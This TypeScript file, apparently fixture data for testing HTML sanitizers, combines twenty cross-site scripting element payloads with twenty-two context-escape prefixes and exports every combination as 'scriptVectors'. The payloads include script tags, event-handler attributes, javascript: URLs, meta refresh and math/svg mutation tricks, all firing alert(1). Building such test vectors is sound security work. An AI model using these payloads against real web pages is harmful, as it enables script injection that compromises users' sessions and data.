/** Text that runs `alert(1)` where a page takes it for markup: every kind of element, out of every context. */
const elements: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script source': '<script src="data:text/javascript,alert(1)"></script>',
  image: '<img src=x onerror=alert(1)>',
  'image without spaces': '<img/src=x/onerror=alert(1)>',
  svg: '<svg onload=alert(1)>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  body: '<body onload=alert(1)>',
  frame: '<iframe src="javascript:alert(1)"></iframe>',
  'frame document': '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  details: '<details open ontoggle=alert(1)>x</details>',
  input: '<input autofocus onfocus=alert(1)>',
  video: '<video><source onerror=alert(1)></video>',
  object: '<object data="javascript:alert(1)"></object>',
  embed: '<embed src="javascript:alert(1)">',
  link: '<a href="javascript:alert(1)">x</a>',
  base: '<base href="javascript:alert(1)//">',
  refresh: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  style: '<style onload=alert(1)>@import "javascript:alert(1)";</style>',
  markdown: '[x](javascript:alert(1)) ![x](x"onerror="alert(1)) <javascript:alert(1)>',
};

const contexts: Readonly<Record<string, string>> = {
  text: '',
  'double-quoted attribute': '">',
  'single-quoted attribute': "'>",
  title: '</title>',
  script: '</script>',
  comment: '-->',
  CDATA: ']]>',
  style: '</style>',
  textarea: '</textarea>',
  quotation: '”</q></p>',
  template: '{{1}}\u0024{1}`',
  'data in a script': '"}]</script>',
  'handler in an attribute': '" autofocus onfocus=alert(1) x="',
  'handler in a single-quoted attribute': "' autofocus onfocus=alert(1) x='",
  'handler in a bare attribute': ' onmouseover=alert(1) autofocus onfocus=alert(1) ',
  'end of a tag in a bare attribute': ' >',
  noscript: '</noscript>',
  select: '</option></select>',
  frame: '</iframe></noembed></xmp></plaintext>',
  'foreign elements': '</svg></math>',
  'style in foreign elements': '<svg></p><style></style>',
  'math in a table': '<math><mtext><table><mglyph><style>',
};

/** By element: for each context the text that leaves it and then runs. */
export const scriptVectors: readonly (readonly string[])[] = Object.values(elements).map((element) =>
  Object.values(contexts).map((exit) => exit + element),
);
